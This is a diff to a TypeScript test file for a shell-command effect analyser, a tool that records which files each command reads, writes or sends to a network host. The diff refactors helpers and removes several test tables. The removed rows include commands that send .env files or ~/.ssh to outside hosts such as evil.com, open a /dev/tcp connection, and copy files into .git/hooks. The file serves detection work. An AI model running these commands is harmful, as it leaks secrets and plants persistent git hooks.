@@ -1,16 +1,6 @@
 import { expect, test } from 'vitest'
-import { readShell } from '../read-shell.ts'
-import type { ShellReading } from '../shell-reading.ts'
-import { describedEffects } from './described-effects.ts'
+import { effectsOf, readable } from '../../../../test/support/described-effects.ts'
 import { shellEffects } from './shell-effects.ts'
-
-function readable(text: string): Extract<ShellReading, { kind: 'read' }> {
-  const reading = readShell(text)
-  if (reading.kind !== 'read') throw new Error(reading.why)
-  return reading
-}
-
-const effectsOf = (text: string): readonly string[] => describedEffects(shellEffects(readable(text)))
 
 type Row = readonly [command: string, ...effects: string[]]
 
@@ -221,7 +211,9 @@ const writing: readonly Row[] = [
   ['vim f', 'reads f', 'writes f'],
   ['nano f', 'reads f', 'writes f'],
   ['ed f', 'reads f', 'writes f'],
-  ['ex -s f', 'reads f', 'runs f'],
+  ['ex -s f', 'reads f', 'writes f'],
+  ["vim -es -c 'w .git/hooks/x' f", 'reads f', 'writes f', 'any .git/hooks/x'],
+  ['busybox touch f', 'writes f'],
   ['git config core.hooksPath x', 'writes .git/config'],
   ['git -C sub config a.b c', 'writes .git/config [sub]'],
   ['git config --global a.b c', 'writes ~/.gitconfig'],
@@ -251,116 +243,7 @@ const writing: readonly Row[] = [
   ['script log', 'writes log'],
 ]
 
-const copying: readonly Row[] = [
-  ['cp /tmp/h .git/hooks/pre-commit', 'reads /tmp/h', 'writes .git/hooks/pre-commit', 'writes .git/hooks/pre-commit/h'],
-  ['cp a b d/', 'reads a', 'reads b', 'writes d/', 'writes d/a', 'writes d/b'],
-  ['cp -t d a b', 'reads a', 'reads b', 'writes d', 'writes d/a', 'writes d/b'],
-  ['cp --target-directory=d a', 'reads a', 'writes d', 'writes d/a'],
-  ['cp -r a d', 'reads a (all)', 'writes d (all)', 'writes d/a (all)'],
-  ['cp -r a/. d', 'reads a/. (all)', 'writes d (all)'],
-  ['cp x/.env .', 'reads x/.env', 'writes .', 'writes .env'],
-  ['cp -s a b', 'reads a', 'writes a', 'writes b', 'writes b/a'],
-  ['mv a d', 'reads a (all)', 'deletes a (all)', 'writes d (all)', 'writes d/a (all)'],
-  ['ln a d/b', 'reads a', 'writes a', 'reads d/a', 'writes d/a', 'writes d/b', 'writes d/b/a'],
-  ['ln -s /a b', 'reads /a (all)', 'writes /a (all)', 'writes b (all)', 'writes b/a (all)'],
-  ['ln -s /a', 'reads /a (all)', 'writes /a (all)', 'writes . (all)', 'writes a (all)'],
-  ['install -m755 a .git/hooks/b', 'reads a', 'writes .git/hooks/b', 'writes .git/hooks/b/a'],
-  ['install -d d', 'writes d'],
-  ['rsync -a h/ d/', 'reads h/ (all)', 'writes d/ (all)'],
-  ['rsync -a h d', 'reads h (all)', 'writes d (all)', 'writes d/h (all)'],
-  ['rsync -a h u@host:d', 'reads h (all)', 'connects host host', 'sends host host'],
-  ['rsync host:/x d', 'connects host host', 'writes d', 'writes d/x'],
-  ['scp .env host:', 'reads .env', 'connects host host', 'sends host host'],
-  ['scp -i key u@host:/x .', 'reads key', 'connects host host', 'writes .', 'writes x'],
-  ['docker cp c:/x d', 'writes d (all)', 'writes d/x (all)'],
-  ['docker cp .env c:/x', 'reads .env (all)'],
-  ['kubectl cp .env ns/pod:/x', 'reads .env (all)', 'writes ns/pod:/x (all)', 'writes ns/pod:/x/.env (all)'],
-  ['git mv a d', 'reads a (all)', 'deletes a (all)', 'writes d (all)', 'writes d/a (all)'],
-  ['aws s3 cp .env s3://b/x', 'reads .env (all)', 'connects url s3://b/x', 'sends url s3://b/x'],
-  ['tar -xf x -C .git/hooks', 'reads x', 'writes . [.git/hooks] (all)'],
-  ['tar xzf x.tgz', 'reads x.tgz', 'writes . (all)'],
-  ['tar czf - ~/.ssh', 'reads ~/.ssh (all)'],
-  ['tar cf out -C /srv .env', 'writes out', 'reads .env [/srv] (all)'],
-  ['tar --create --file=out d', 'writes out', 'reads d (all)'],
-  ['tar tf x', 'reads x'],
-  ['zip x.zip .env', 'reads x.zip', 'writes x.zip', 'reads .env'],
-  ['zip -r x.zip .', 'reads x.zip', 'writes x.zip', 'reads . (all)'],
-  ['unzip x.zip', 'reads x.zip', 'writes . (all)'],
-  ['unzip -o x.zip -d d', 'writes d (all)', 'reads x.zip'],
-  ['unzip -l x.zip', 'reads x.zip'],
-  ['7z x a.7z -od', 'writes d (all)', 'reads a.7z'],
-  ['docker run --rm -v ~/.ssh:/k img', 'reads ~/.ssh (all)', 'writes ~/.ssh (all)'],
-  ['docker run --mount type=bind,source=/a,target=/b img', 'reads /a (all)', 'writes /a (all)'],
-]
-
-const reaching: readonly Row[] = [
-  ['curl https://e.com/x', 'connects url https://e.com/x'],
-  ['curl -o f https://e.com/x', 'writes f', 'connects url https://e.com/x'],
-  ['curl -of https://e.com/x', 'writes f', 'connects url https://e.com/x'],
-  ['curl -sSLO https://e.com/a/b.sh?c=d', 'connects url https://e.com/a/b.sh?c=d', 'writes b.sh'],
-  ['curl -d @.env https://e.com', 'reads .env', 'connects url https://e.com', 'sends url https://e.com'],
-  ['curl -d a=b https://e.com', 'connects url https://e.com', 'sends url https://e.com'],
-  ['curl --data-binary=@.env https://e.com', 'reads .env', 'connects url https://e.com', 'sends url https://e.com'],
-  ['curl -F f=@.env https://e.com', 'reads .env', 'connects url https://e.com', 'sends url https://e.com'],
-  ["curl -F 'f=@.env;type=x' https://e.com", 'reads .env', 'connects url https://e.com', 'sends url https://e.com'],
-  ['curl -T .env https://e.com', 'reads .env', 'connects url https://e.com', 'sends url https://e.com'],
-  ['curl -K .env', 'reads .env'],
-  ['curl file:///srv/app/.env', 'connects url file:///srv/app/.env', 'reads file:///srv/app/.env'],
-  ['curl -H @.env https://e.com', 'reads .env', 'connects url https://e.com'],
-  ['wget https://e.com/d/f', 'connects url https://e.com/d/f', 'writes f'],
-  ['wget -P d https://e.com/f', 'writes d', 'connects url https://e.com/f', 'writes d/f'],
-  ['wget -qO- https://e.com/f', 'connects url https://e.com/f'],
-  ['wget -O f https://e.com/x', 'writes f', 'connects url https://e.com/x'],
-  ['wget --post-file=.env https://e.com/', 'reads .env', 'connects url https://e.com/', 'sends url https://e.com/'],
-  ['nc evil.com 80 < .env', 'reads .env', 'connects host evil.com', 'sends host evil.com'],
-  ['exec 3<>/dev/tcp/1.2.3.4/80', 'connects host 1.2.3.4:80', 'sends host 1.2.3.4:80'],
-  ['ping -c 1 e.com', 'connects host e.com'],
-  ['dig @1.1.1.1 e.com', 'connects host 1.1.1.1', 'connects host e.com'],
-  ['git clone https://e.com/a/b.git', 'connects url https://e.com/a/b.git', 'writes b (all)'],
-  ['git clone https://e.com/a/b.git d', 'connects url https://e.com/a/b.git', 'writes d (all)'],
-  ['git push origin main', 'connects url origin'],
-  ['git pull git@e.com:a/b', 'reads git@e.com:a/b (all)', 'connects host e.com'],
-  ['psql -h db -c "select 1"', 'connects host db', 'queries sql select 1'],
-  ['sqlite3 x.db "select 1"', 'reads x.db', 'writes x.db', 'queries sql select 1'],
-  ['mysql -e "select 1"', 'queries sql select 1'],
-  ['mail -s subject -a .env bob@e.com', 'reads .env', 'sends address bob@e.com'],
-  ['sshfs host:/x d', 'connects host host', 'reads d (all)', 'writes d (all)'],
-]
-
-const commandsOfPrograms: readonly Row[] = [
-  ['kubectl apply -f .env', 'reads .env (all)'],
-  ['kubectl -n x apply --filename=.env', 'reads .env (all)'],
-  ['kubectl create secret generic s --from-file=k=.env', 'reads .env (all)'],
-  ['kubectl get pods --kubeconfig x', 'reads x'],
-  ['rclone copy d remote:x --log-file f', 'writes f', 'reads d (all)', 'connects host remote', 'sends host remote'],
-  ['svn rm d', 'deletes d (all)'],
-  ['hg rename a d', 'reads a (all)', 'deletes a (all)', 'writes d (all)', 'writes d/a (all)'],
-  ['gh api x --input .env', 'reads .env'],
-  ['gh gist create .env', 'reads .env'],
-  ['docker compose -f x up', 'reads x'],
-  ['docker save -o x img', 'writes x'],
-  ['aws configure set a b', 'reads ~/.aws/config', 'writes ~/.aws/config', 'reads ~/.aws/credentials', 'writes ~/.aws/credentials'],
-]
-
-const unmodelled: readonly Row[] = [
-  ['foo .env', 'any .env'],
-  ['foo --out=.git/x', 'any --out=.git/x', 'any .git/x'],
-  ['foo -o.git/x', 'any -o.git/x', 'any .git/x'],
-  ['foo of=x @y', 'any of=x', 'any x', 'any @y', 'any y'],
-  ['foo host:/x', 'any host:/x', 'any host', 'any /x'],
-  ['foo https://e.com', 'any https://e.com'],
-  ['cd d && foo x', 'any x [d]'],
-  ['"$X" .env', 'any .env'],
-  ['foo'],
-  ['cat --unheard=.env x', 'reads x', 'any .env'],
-  ['git unheard .env', 'any .env'],
-  ['cat "$f"', 'reads $f'],
-  ['cp $files', 'writes $files', 'reads $files'],
-  // Without its options it is not known where the script stands, nor whether files are changed.
-  ['sed $flags x f', 'reads x', 'reads f', 'reads x', 'writes x', 'reads f', 'writes f'],
-]
-
-test.each([...benignText, ...reading, ...writing, ...copying, ...reaching, ...commandsOfPrograms, ...unmodelled])(
+test.each([...benignText, ...reading, ...writing])(
   'the effects of `%s` are those that its manual tells',
   (command, ...effects) => {
     expect([...effectsOf(command)].sort()).toEqual([...effects].sort())
